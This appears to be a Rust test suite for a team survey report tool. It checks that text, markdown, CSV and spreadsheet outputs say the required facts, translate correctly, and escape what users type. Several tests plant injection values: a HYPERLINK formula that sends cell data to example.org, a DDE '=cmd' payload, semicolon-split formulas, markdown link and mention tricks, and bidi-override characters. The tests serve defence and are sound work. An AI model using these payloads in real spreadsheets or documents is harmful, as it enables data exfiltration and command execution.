//! What every format says, and how it keeps words from being taken for something else.

use crate::languages::{self, english, german};
use pulse_check::day::Day;
use pulse_check::instrument::builtin;
use pulse_check::picture::{ShapeForm, Sheet};
use pulse_check::report::{
    QuestionWords, QuestionnaireWords, csv, json, markdown, spreadsheet, text,
};
use pulse_check::text::{Lang, ReportWords, RoundResultWords, turns_or_hides};
use serde_json::Value;

use crate::{
    all_formats, cell, cells, cells_at, instrument, past_of, policy, promise, report, view_of,
};

const ANSWERS: [&[u8]; 4] = [
    &[4, 4, 5, 3, 4, 4, 3, 4, 4, 5, 4, 4],
    &[4, 4, 5, 3, 4, 4, 3, 4, 4, 5, 4, 4],
    &[2, 2, 1, 2, 3, 2, 2, 2, 2, 1, 2, 2],
    &[2, 2, 1, 2, 0, 0, 0, 0, 0, 0, 0, 0],
];

#[test]
fn every_format_says_how_many_when_what_the_promise_and_that_numbers_are_rounded() {
    let asked = instrument();
    let few: [&[u8]; 4] = [&[4; 4], &[4; 4], &[4; 4], &[2; 4]];
    for (answers, people) in [(ANSWERS, "12"), (few, "4")] {
        let view = view_of(&asked, &answers, &policy(), None);
        for lang in languages::all().iter().copied() {
            let title = asked.title().get(lang.tag()).unwrap();
            for (format, text) in all_formats(&report(&view, lang)) {
                // For programs, or in words.
                let day = lang.day(Day::new(2026, 11, 24).unwrap());
                assert!(text.contains("2026-11-24") || text.contains(&day), "{format}:\n{text}");
                let rounded = RoundResultWords::from(lang).rounded();
                for said in [people, title, "Orchard", rounded] {
                    assert!(text.contains(said), "{format} does not say {said}:\n{text}");
                }
                for sentence in promise(lang) {
                    assert!(text.contains(&sentence), "{format} does not say {sentence}");
                }
            }
        }
    }
}

#[test]
fn what_a_picture_shows_is_said_as_the_language_writes_it() {
    let asked = instrument();
    let view = view_of(&asked, &ANSWERS, &policy(), None);
    let labels = |lang: Lang| {
        let report = report(&view, lang);
        [
            Some(report.overview(Sheet::PAGE)),
            report.answers(2, Sheet::PAGE),
            report.answers(3, Sheet::PAGE),
        ]
        .map(|drawing| drawing.unwrap().label)
    };
    let french = *languages::all().iter().find(|lang| lang.tag() == "fr").unwrap();

    assert_eq!(
        labels(english()),
        [
            "By dimension: Focus: 4; Mutual help: not shown",
            "We asked for help in time: How many people chose the lowest two and the highest two \
             answers: Never to Rarely: 9 to 12 people; Often to Always: 0 to 2 people",
            "People were left alone with a problem: How many people chose the lowest two and the \
             highest two answers: not shown",
        ]
    );
    let [overview, bars, withheld] = labels(french);
    assert_eq!(
        overview,
        "Par dimension\u{a0}: Fokus\u{a0}: 4\u{202f}; Gegenseitige Hilfe\u{a0}: non montré"
    );
    assert!(![bars, withheld].iter().any(|label| label.contains(" :") || label.contains(" ;")));
}

#[test]
fn a_picture_that_leaves_by_itself_says_it_too() {
    let asked = instrument();
    let view = view_of(&asked, &ANSWERS, &policy(), None);
    for lang in languages::all().iter().copied() {
        let report = report(&view, lang);
        let drawing = report.captioned(report.overview(Sheet::PHONE), Sheet::PHONE);
        let words: Vec<&str> = drawing
            .shapes
            .iter()
            .filter_map(|shape| match &shape.form {
                ShapeForm::Text { text, .. } => Some(text.as_str()),
                _ => None,
            })
            .collect();
        let words = words.join(" ");
        let title = asked.title().get(lang.tag()).unwrap();
        let rounded = RoundResultWords::from(lang).rounded();
        for said in ["12 ", &lang.day(report.occasion.day), title, "Orchard", rounded] {
            assert!(drawing.label.contains(said) && words.contains(said), "{said} in {words}");
        }
        for sentence in promise(lang) {
            assert!(drawing.label.contains(&sentence) && words.contains(&sentence), "{words}");
        }
    }
}

#[test]
fn actions_are_said_with_their_day_their_moment_and_their_sign() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    for lang in languages::all().iter().copied() {
        for (format, text) in all_formats(&report(&view, lang)) {
            let what = text.find("Ask for help at the daily meeting");
            let day = lang.day(Day::new(2026, 12, 8).unwrap());
            assert!(
                what.is_some() && (text.contains("2026-12-08") || text.contains(&day)),
                "{format}:\n{text}"
            );
            for part in ["the daily meeting opens", "Somebody else asks, too"] {
                assert!(text.contains(part), "{format}:\n{text}");
            }
        }
    }
}

#[test]
fn what_a_team_wants_to_keep_and_what_went_well_is_in_every_form_once_enough_answered() {
    let with_own_words = |view| pulse_check::report::Report {
        agreement: vec!["Bad news\ncomes early".to_owned()],
        wins: vec!["We said no to a rush job".to_owned()],
        ..report(view, english())
    };
    let said = |text: &str| {
        ["Bad news comes early", "We said no to a rush job"].map(|it| text.contains(it))
    };
    let enough = view_of(&instrument(), &ANSWERS, &policy(), None);
    let four: [&[u8]; 4] = [&[4; 4], &[4; 4], &[4; 4], &[2; 4]];
    let few = view_of(&instrument(), &four, &policy(), None);
    for (name, text) in all_formats(&with_own_words(&enough)) {
        assert_eq!(said(&text), [true; 2], "{name}");
    }
    for (name, text) in all_formats(&with_own_words(&few)) {
        assert_eq!(said(&text), [false; 2], "{name}");
    }
    let without = text(&report(&enough, english()));
    assert!(!without.contains("Our working agreement") && !without.contains("What went well"));
}

#[test]
fn a_report_is_made_without_the_questionnaire_too() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let archived = pulse_check::report::Report {
        asked: QuestionnaireWords {
            title: "How was the sprint?".to_owned(),
            dimensions: vec!["Focus".to_owned()],
            ..QuestionnaireWords::default()
        },
        ..report(&view, english())
    };
    let said = text(&archived);
    assert!(said.contains("- Focus: 4.") && said.contains("- help: not shown."), "{said}");
    let bars = "- done: 1 to 2: 0 to 2 people; 4 to 5: 9 to 12 people.";
    assert!(said.contains(bars), "{said}");
}

#[test]
fn a_change_is_said_as_a_verdict() {
    let asked = instrument();
    let past = past_of(&asked, &[&[2, 2, 3, 2, 2, 3, 2][..]; 4], &policy());
    let focus: &[u8] = &[4, 5, 4, 4, 5, 4, 4];
    let up = view_of(&asked, &[focus, focus, &[4; 7], &[2; 7]], &policy(), Some(&past));
    let said = |lang| text(&report(&up, lang));
    assert!(
        said(english()).contains("- The team’s level: clearly up (1.5 higher than last time)"),
        "{}",
        said(english())
    );
    assert!(
        said(german()).contains(
            "- Das Niveau des Teams: deutlich gestiegen (1,5 höher als beim letzten Mal)"
        )
    );
    assert_eq!(cell(&csv(&report(&up, german())), "headline", "", "level"), "clearly up");
    let same = view_of(&asked, &[&[2, 2, 3, 2, 2, 3, 2][..]; 4], &policy(), Some(&past));
    let said = text(&report(&same, english()));
    assert!(said.contains("- The team’s level: can’t tell whether it moved\n"), "{said}");
    assert!(!said.contains("unchanged") && !said.contains("no change"));
}

/// A spreadsheet would run what begins like a formula, and send data away with it.
#[test]
fn no_typed_cell_begins_like_a_formula() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let mut report = report(&view, english());
    report.occasion.team = "=HYPERLINK(\"https://example.org/?\"&A1)".to_owned();
    report.occasion.round = "\t=1+1".to_owned();
    report.occasion.promise = vec!["@SUM(A1)".to_owned(), "\r\n-1".to_owned()];
    report.asked.title = "＝1+1".to_owned();
    report.asked.dimensions = vec!["+1".to_owned(), "-1".to_owned()];
    report.actions[0].what = "=cmd|' /C calc'!A0".to_owned();
    let table = csv(&report);
    for cell in cells(&table).into_iter().flatten() {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
        assert!(!formula, "{cell}");
    }
    assert_eq!(cell(&table, "headline", "", "team"), "'=HYPERLINK(\"https://example.org/?\"&A1)");
    assert_eq!(cell(&table, "dimension", "help", "name"), "'-1");
}

/// German and French spreadsheets split a file at semicolons, whatever stands in quotation marks.
#[test]
fn no_typed_words_begin_a_formula_behind_a_semicolon() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let mut report = report(&view, english());
    report.occasion.team = "a;=1+1".to_owned();
    report.occasion.round = "a;;b; @SUM(A1);\"=2".to_owned();
    report.asked.title = ";＝1;-x;\" \"+1".to_owned();
    report.actions[0].what = "1; 2; Ada = Ben; 3-4".to_owned();
    let table = csv(&report);
    let at_semicolons = table.lines().flat_map(|line| line.split(';'));
    for cell in at_semicolons {
        let cell = cell.trim_start_matches([' ', '"']);
        assert!(!cell.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{cell}");
    }
    assert_eq!(cell(&table, "headline", "", "team"), "a;'=1+1");
    assert_eq!(cell(&table, "headline", "", "round"), "a;;b; '@SUM(A1);\"'=2");
    assert!(table.contains("1; 2; Ada = Ben; 3-4"), "what is no formula stays as it was typed");
}

/// A double click opens it in columns, with letters and numbers that are what they were.
#[test]
fn a_spreadsheet_gets_the_same_cells_in_the_way_of_the_language() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let mut report = report(&view, german());
    report.occasion.team = "Größe; „Mut“".to_owned();
    let table = spreadsheet(&report);
    let german = table.strip_prefix('\u{feff}').unwrap();
    let (german, plain) = (cells_at(german, ';'), cells(&csv(&report)));
    let columns = &plain[0];
    let is_number = |at: usize| {
        let ends = ["mean", "low", "high", "difference"];
        ends.iter().any(|end| columns[at].ends_with(end))
    };
    let mut numbers = 0;
    for (row, expected) in german.iter().zip(&plain).skip(1) {
        for (at, (cell, expected)) in row.iter().zip(expected).enumerate() {
            let decimal = if is_number(at) { expected.replace('.', ",") } else { expected.clone() };
            assert_eq!(*cell, decimal, "{}", columns[at]);
            numbers += usize::from(decimal != *expected);
        }
    }
    assert_eq!((german.len(), &german[0], numbers > 3), (plain.len(), columns, true));
    report.lang = english();
    assert_eq!(spreadsheet(&report), format!("\u{feff}{}", csv(&report)));
}

#[test]
fn a_difference_stays_a_number() {
    let asked = instrument();
    let past = past_of(&asked, &[&[4; 7], &[4; 7], &[4; 7], &[2; 7]], &policy());
    let view = view_of(&asked, &[&[3; 7], &[3; 7], &[4; 7], &[2; 7]], &policy(), Some(&past));
    let table = csv(&report(&view, german()));
    assert_eq!(cell(&table, "dimension", "focus", "difference"), "-1");
    assert_eq!(cell(&table, "dimension", "help", "difference"), "0");
}

#[test]
fn every_row_of_a_table_has_a_cell_for_every_column() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let mut report = report(&view, english());
    report.asked.dimensions[0] = "a, \"b\"\r\nc; d | e".to_owned();
    let rows = cells(&csv(&report));
    assert!(rows.iter().all(|row| row.len() == rows[0].len()));
    assert_eq!(cell(&csv(&report), "dimension", "focus", "name"), "a, \"b\" c; d | e");
    let kinds: Vec<&str> = rows.iter().map(|row| row[0].as_str()).collect();
    assert_eq!(
        kinds,
        [
            "kind",
            "headline",
            "dimension",
            "dimension",
            "question",
            "question",
            "question",
            "question",
            "action",
            "promise",
            "promise",
            "note"
        ]
    );
}

#[test]
fn names_in_markdown_are_read_as_they_are() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let mut report = report(&view, english());
    let name = "a|b *c* _d_ <e> [f](g) `h` \\i &amp; ~~j~~ $k$";
    report.occasion.team = name.to_owned();
    report.occasion.promise = vec!["# a".to_owned(), "- b".to_owned(), "1. c".to_owned()];
    report.asked.dimensions[0] = name.to_owned();
    let said = markdown(&report);
    let escaped = r"a\|b \*c\* \_d\_ \<e\> \[f\](g) \`h\` \\i \&amp; \~\~j\~\~ \$k\$";
    assert!(said.starts_with(&format!("# {escaped} – Autumn\n")), "{said}");
    assert!(said.contains(&format!("| {escaped} | 4 |\n")), "{said}");
    for line in [r"- \# a", r"- \- b", r"- 1\. c"] {
        assert!(said.contains(&format!("{line}\n")), "{line} in {said}");
    }
    let columns = |line: &str| line.replace(r"\|", "").matches('|').count();
    let rows: Vec<usize> = said.lines().filter(|line| line.starts_with('|')).map(columns).collect();
    assert!(rows.iter().all(|columns| *columns == 3), "{rows:?}");
}

/// Wikis make links of these by themselves, of `@names` with a message to whoever is called so; and
/// they do it to escaped characters too.
#[test]
fn nothing_that_was_typed_becomes_a_link_in_markdown() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let mut report = report(&view, english());
    for (typed, said) in [
        ("See https://example.org/a_b?c=*d*", r"See `https://example.org/a_b?c=*d*`"),
        ("HTTP://x ftp://y www.z WWW.z", "`HTTP://x` `ftp://y` `www.z` `WWW.z`"),
        ("@ben, tell ada@example.org", "`@ben,` tell `ada@example.org`"),
        ("(@ben) example.org:80", "`(@ben)` `example.org:80`"),
        ("mailto:ada tel:110", "`mailto:ada` `tel:110`"),
        ("a|@b`@c`", r"a\|`@b`\``@c`\`"),
        ("@a\\ b", r"`@a\` b"),
        ("e.g. at 3.5 z.B. 1.2.3 and so.", "e.g. at 3.5 z.B. 1.2.3 and so."),
        ("1. @a", r"1\. `@a`"),
        ("@1. a", "`@1.` a"),
    ] {
        report.actions[0].what = typed.to_owned();
        report.asked.dimensions[0] = typed.to_owned();
        let text = markdown(&report);
        assert!(text.contains(&format!("| {said} | 4 |")), "{said} in {text}");
        assert!(text.contains(&format!("- {said} (by 8 Dec 2026)")), "{said} in {text}");
    }
}

#[test]
fn a_line_stays_a_line() {
    let view = view_of(&instrument(), &ANSWERS, &policy(), None);
    let mut report = report(&view, english());
    let lines = |report: &pulse_check::report::Report| {
        [text(report), markdown(report), csv(report)].map(|text| text.lines().count())
    };
    let before = lines(&report);
    report.asked.questions[0] =
        QuestionWords { text: "One\u{2028}\nTwo\u{0}\u{b}".to_owned(), reversed: false };
    report.occasion.round = "Three\r\n\r\nFour".to_owned();
    assert_eq!(lines(&report), before);
    assert!(text(&report).starts_with("Orchard – Three Four\n"));
    assert!(json(&report).unwrap().contains("\"One Two\""));
}

#[test]
fn no_format_lets_a_name_turn_round_or_hide_what_stands_beside_it() {
    let asked = instrument();
    let view = view_of(&asked, &ANSWERS, &policy(), None);
    let mut report = report(&view, english());
    let turned = |text: &str| format!("\u{202e}{text}\u{2066}\u{200b}");
    report.occasion.team = turned("Orchard");
    report.occasion.round = turned("Autumn");
    report.occasion.promise = vec![turned("Promised")];
    report.asked.title = turned("Title");
    report.asked.labels = vec![turned("Label"); 5];
    report.asked.dimensions[0] = turned("Focus");
    report.asked.questions[0].text = turned("QuestionWords");
    report.actions[0].what = turned("Ask");
    for (format, text) in all_formats(&report) {
        for said in ["Orchard", "Title", "Focus", "QuestionWords", "Ask"] {
            assert!(text.contains(said), "{said} in {format}");
        }
        let hidden = |character| turns_or_hides(character) && !['\n', '\r'].contains(&character);
        assert!(!text.contains(hidden), "{format}: {text:?}");
    }
}

/// Every built-in questionnaire, in both languages, goes through every format.
#[test]
fn built_in_questionnaires_leave_the_room() {
    for id in ["safety", "trust", "leadership", "rebuilding"] {
        let asked = builtin::with_id(id, Lang::default()).unwrap();
        let answers = vec![&[4, 4, 3, 4, 5, 4, 4, 4, 3, 4, 5, 4][..]; asked.items().len()];
        let view = view_of(&asked, &answers, &policy(), None);
        for lang in languages::all().iter().copied() {
            let mut report = report(&view, lang);
            report.asked = QuestionnaireWords::of(&asked, lang.tag());
            for (format, text) in all_formats(&report) {
                for item in asked.items() {
                    let said = item.text().get(lang.tag()).unwrap().trim_end_matches('.');
                    assert!(text.contains(said), "{format} lacks {said}");
                }
            }
        }
    }
}

/// With few people there is no number for a question in any format, only which one is lower.
#[test]
fn below_eight_people_a_question_is_at_most_marked() {
    let asked = instrument();
    let few: [&[u8]; 4] = [&[3; 6], &[3; 6], &[4; 6], &[4, 4, 4, 4, 4, 3]];
    let view = view_of(&asked, &few, &policy(), None);
    assert_eq!(view.dimensions()[1].lower_question(), Some(3));
    for lang in languages::all().iter().copied() {
        let report = report(&view, lang);
        let said = ReportWords::from(lang);
        let question = &report.asked.questions[3].text;
        let marked = said.lower_question(question);
        for text in [text(&report), markdown(&report).replace('*', "")] {
            assert!(text.contains(&marked) && text.contains(said.no_questions()), "{text}");
            assert!(!text.contains(&report.asked.questions[2].text), "{text}");
        }
    }
    let table = csv(&report(&view, english()));
    assert_eq!(cell(&table, "dimension", "help", "lower_question"), "alone");
    assert_eq!(cell(&table, "question", "ask", "mean"), "");
}

#[test]
fn why_nothing_is_said_about_change_is_said() {
    let asked = instrument();
    let before: [&[u8]; 4] = [&[4; 9], &[4; 9], &[4; 9], &[2; 9]];
    let unkept = past_of(&asked, &before, &policy().keeping_scores(false));
    let view = view_of(&asked, &[&[3; 9], &[3; 9], &[4; 9], &[2; 9]], &policy(), Some(&unkept));
    for lang in languages::all().iter().copied() {
        let report = report(&view, lang);
        assert!(text(&report).contains(ReportWords::from(lang).untested_not_kept()));
        let data: Value = serde_json::from_str(&json(&report).unwrap()).unwrap();
        assert_eq!((&data["change"], &data["untested"]), (&Value::Null, &"scores not kept".into()));
    }
}
